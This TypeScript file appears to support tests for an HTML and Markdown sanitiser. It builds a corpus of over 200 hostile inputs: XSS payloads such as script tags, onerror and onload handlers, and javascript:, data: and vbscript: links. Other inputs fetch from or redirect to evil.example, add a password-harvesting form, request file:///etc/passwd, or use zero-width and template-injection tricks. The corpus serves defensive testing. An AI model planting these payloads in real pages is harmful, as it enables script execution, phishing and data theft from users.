import { Parser } from "htmlparser2";

const ALLOWED_TAGS = new Set([
  "div",
  "p",
  "br",
  "hr",
  "ol",
  "ul",
  "li",
  "table",
  "tbody",
  "tr",
  "td",
  "pre",
  "code",
  "strong",
  "a",
]);

/** What a browser would be able to do with HTML: everything in it beyond plain structure, and where its links lead. */
export function readPowers(html: string): { escapes: string[]; links: string[]; text: string } {
  const escapes: string[] = [];
  const links: string[] = [];
  let text = "";
  const parser = new Parser({
    onopentag: (name, attributes) => {
      if (!ALLOWED_TAGS.has(name)) escapes.push(name);
      for (const [attribute, value] of Object.entries(attributes)) {
        if (name === "a" && attribute === "href") links.push(value);
        else if (!["dir", "start"].includes(attribute)) escapes.push(`${name} ${attribute}`);
      }
    },
    ontext: (data) => {
      text += data;
    },
    oncomment: (data) => escapes.push(`comment ${data}`),
    onprocessinginstruction: (name) => escapes.push(name),
  });
  parser.end(html);
  return { escapes, links, text };
}

const ADDRESSES = [
  "https://evil.example/x",
  "http://evil.example",
  "//evil.example/x",
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "https://help.example.com@evil.example/x",
  "https://help.example.com.evil.example/x",
  "https://evil.example/?q=help.example.com",
  "www.evil.com/leak",
  "file:///etc/passwd",
];
const CARRIERS = [
  (address: string) => `<a href="${address}">here</a>`,
  (address: string) => `[here](${address})`,
  (address: string) => `[here][1]\n\n[1]: ${address}`,
  (address: string) => `[here]( <${address}> "title")`,
  (address: string) => `![alt](${address})`,
  (address: string) => `[![alt](${address})](${address})`,
  (address: string) => `![alt][1]\n[1]: ${address}`,
  (address: string) => `<img src="${address}" onerror="alert(1)">`,
  (address: string) => `<img src=x onerror=fetch('${address}')>`,
  (address: string) => `<${address}>`,
  (address: string) => `See ${address} for more.`,
  (address: string) => `**[bold](${address})**`,
  (address: string) => `<iframe src="${address}"></iframe>`,
  (address: string) => `<svg onload="location='${address}'"><a xlink:href="${address}">x</a></svg>`,
  (address: string) => `<style>@import '${address}'</style><p style="background:url(${address})">x</p>`,
  (address: string) => `&lt;a href=&quot;${address}&quot;&gt;here&lt;/a&gt;`,
  (address: string) => `"><script src="${address}"></script>`,
  (address: string) => `\u202e[here](${address})\u200b<scr\u200bipt>alert(1)</scr\u200bipt>`,
];

/** Over 200 texts that try to bring an image, a script or a link of their own into what people are shown. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...ADDRESSES.flatMap((address) => CARRIERS.map((carry) => carry(address))),
  "<!-- --><script>alert(1)</script>",
  "<![CDATA[<script>alert(1)</script>]]>",
  "</div><hr><script>alert(1)</script>",
  "<p onclick=alert(1)>click</p>",
  "<math><mi//xlink:href='javascript:alert(1)'>",
  "<form action=https://evil.example><input name=password></form>",
  "</code></pre><script>alert(1)</script>",
  "{{constructor.constructor('alert(1)')()}}",
];
